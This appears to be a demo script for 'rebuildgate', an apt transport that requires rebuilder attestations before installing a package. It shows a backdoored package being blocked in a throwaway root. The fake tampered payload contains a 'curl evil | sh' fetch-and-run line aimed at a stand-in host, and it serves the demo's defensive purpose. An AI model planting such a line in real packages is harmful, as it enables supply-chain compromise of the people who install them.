"""The apt part of ``make demo``: real ``apt-get install`` through ``rebuildgate+http``.

A repository on 127.0.0.1 serves two packages.  ``hello`` is what rb1, rb2
and rb3 rebuilt.  ``tools`` was swapped for a backdoored build and the
repository index regenerated, so apt's own hash check is satisfied; only
the rebuilders know better.  The policy wants 2 of the 3.  apt runs with a
private configuration (tests/apt_transport/harness.py) and dpkg installs
into a throwaway root, so the host's package database is not touched (its
hash is shown before and after).
"""

from __future__ import annotations

import shlex
import shutil
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tests.apt_transport.harness import AptEnv, AptResult, flat_source, host_state, shared_tmpdir  # noqa: E402
from tests.apt_transport.world import World  # noqa: E402
from tests.support.server import RebuilderServer  # noqa: E402

BOLD, RESET = ("\033[1m", "\033[0m") if sys.stdout.isatty() else ("", "")


def _say(text: str) -> None:
    print(f"\n{BOLD}== apt: {text}{RESET}", flush=True)


def _show(result: AptResult, apt: AptEnv) -> None:
    shown = [a for a in result.args if not a.startswith("Rebuildgate::Policy=") and a != "-o"]
    print(f"$ APT_CONFIG={apt.config} {' '.join(shlex.quote(a) for a in shown)}")
    for line in result.output.splitlines():
        if line.strip():
            print(f"  {line}")
    print(f"  (exit status {result.returncode})", flush=True)


def _reachable_by_apt(path: Path) -> bool:
    """Can apt's sandbox user (_apt) traverse every parent of *path*?"""
    return all(p.stat().st_mode & 0o001 for p in [path, *path.parents] if p.exists())


def run(workdir: Path) -> None:
    workdir = Path(workdir)
    workdir.mkdir(parents=True, exist_ok=True)
    # apt's methods run as _apt: the directory must be reachable for it.
    base = workdir / "apt" if _reachable_by_apt(workdir) else shared_tmpdir("rbg-demo-apt-")
    servers: list[RebuilderServer] = []

    def serve(root: Path) -> RebuilderServer:
        servers.append(RebuilderServer(root).start())
        return servers[-1]

    before = host_state()
    try:
        world = World(base, make_server=serve)
        hello = world.package("hello", "2:1.0-1", source="hello-src", payload=b"#!/bin/sh\necho hello\n")
        tools = world.package("tools", "1.0-1", payload=b"#!/bin/sh\necho tools\n")
        rbs = [world.rebuilder(f"rb{i}") for i in (1, 2, 3)]
        for rb in rbs:
            world.attest(rb, hello)
            world.attest(rb, tools)
        repo = world.repo([hello, world.tampered(tools, b"#!/bin/sh\necho tools; curl evil | sh\n")])
        policy = world.policy(rbs, threshold=2)
        apt = AptEnv(base / "apt", target=True)
        assert apt.target is not None
        apt.sources([flat_source(repo.http)])
        options = {"Rebuildgate::Policy": str(policy)}

        _say("sources.list: every .deb fetched through this line is checked")
        print(f"  {flat_source(repo.http)}")
        print(f"  policy {policy}: 2 of rb1, rb2, rb3 must attest the exact file")
        _say("apt-get update: index files pass through unchanged")
        _show(apt.update(options=options), apt)

        _say("hello was rebuilt bit for bit by all three rebuilders: installed")
        _show(apt.install("hello", options=options), apt)
        installed = apt.target / "usr/share/rebuildgate-test/hello"
        print(f"  installed file in the throwaway root: {installed} ({installed.exists()})")

        _say("tools was swapped for a backdoored build (index regenerated): blocked before dpkg")
        _show(apt.install("tools", options=options), apt)
        print(f"  tools in the throwaway root's dpkg status: {'Package: tools' in apt.status.read_text()}")
        print(f"  tools left in apt's archives: {[n for n in apt.downloaded() if 'tools' in n] or 'none'}")

        _say("the decision log (one JSON line per package)")
        for d in world.decisions():
            print(f"  {d['name']} {d['version']}: {d['verdict']}, {d['vote_count']} of {d['threshold']} votes, "
                  f"{d['conflict_count']} conflicting")
        same = host_state() == before
        print(f"\n  host's /var/lib/dpkg and apt state unchanged: {same}", flush=True)
    finally:
        for server in servers:
            server.stop()
        if base.parent != workdir:
            shutil.rmtree(base, ignore_errors=True)


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        run(Path(tmp))
